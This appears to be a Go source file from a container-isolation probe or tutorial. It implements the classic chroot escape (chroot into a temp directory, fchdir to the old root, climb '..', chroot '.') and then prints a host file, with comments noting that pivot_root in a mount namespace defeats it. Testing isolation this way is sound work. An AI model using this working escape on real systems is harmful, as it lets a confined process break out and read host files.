package main

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"
)

// runEscape is the classic chroot escape. chroot(2) changes only where path lookups
// start; it does not move the working directory, and ".." stops at the root only when it
// is reached exactly. So a process that can chroot again can leave its chroot:
//
//	fd = open("/")          keep a handle on the current root
//	mkdir /tmp/x; chroot /tmp/x     the new root is below us...
//	fchdir(fd)              ...and our cwd is now outside it
//	cd .. (x100)            nothing stops the climb until the real root
//	chroot .                make it our root again
//
// A mount namespace with pivot_root (step 3) defeats it: the climb stops at the
// namespace's root, which is the container's root.
func runEscape(args []string) error {
	file := args[0]
	if err := escape(); err != nil {
		return fmt.Errorf("escape failed: %w", err)
	}
	data, err := os.ReadFile(file)
	if err != nil {
		// The *PathError would repeat the name: keep only its reason.
		var pe *os.PathError
		if errors.As(err, &pe) {
			err = pe.Err
		}
		return fmt.Errorf("escape failed: read %s: %w", file, err)
	}
	_, err = os.Stdout.Write(data)
	return err
}

// escape leaves the process's root at the top of its mount namespace, and removes the
// directory it made whatever happens.
func escape() (err error) {
	root, err := os.Open("/")
	if err != nil {
		return err
	}
	defer root.Close()
	var before unix.Stat_t
	if err := unix.Fstat(int(root.Fd()), &before); err != nil {
		return fmt.Errorf("stat /: %w", err)
	}

	parent := "/tmp"
	if _, err := os.Stat(parent); err != nil {
		parent = "/"
	}
	dir, err := os.MkdirTemp(parent, "probe-escape-")
	if err != nil {
		return err
	}
	// The parent's fd still names the right directory after the root has moved, so the
	// cleanup works whether or not the escape did.
	pfd, err := os.Open(parent)
	if err != nil {
		os.Remove(dir)
		return err
	}
	defer pfd.Close()
	defer func() {
		rmErr := unix.Unlinkat(int(pfd.Fd()), filepath.Base(dir), unix.AT_REMOVEDIR)
		if err == nil && rmErr != nil {
			err = fmt.Errorf("remove %s: %w", dir, rmErr)
		}
	}()

	if err := unix.Chroot(dir); err != nil {
		return fmt.Errorf("chroot %s: %w", dir, err)
	}
	if err := unix.Fchdir(int(root.Fd())); err != nil {
		return fmt.Errorf("fchdir /: %w", err)
	}
	for range 100 {
		if err := unix.Chdir(".."); err != nil {
			return fmt.Errorf("chdir ..: %w", err)
		}
	}
	if err := unix.Chroot("."); err != nil {
		return fmt.Errorf("chroot .: %w", err)
	}
	// Reading a file that also exists inside the container would look like success, so
	// say so when the climb ended where it started.
	var after unix.Stat_t
	if err := unix.Stat("/", &after); err != nil {
		return fmt.Errorf("stat /: %w", err)
	}
	if after.Dev == before.Dev && after.Ino == before.Ino {
		return fmt.Errorf("still in the same root after climbing")
	}
	return nil
}
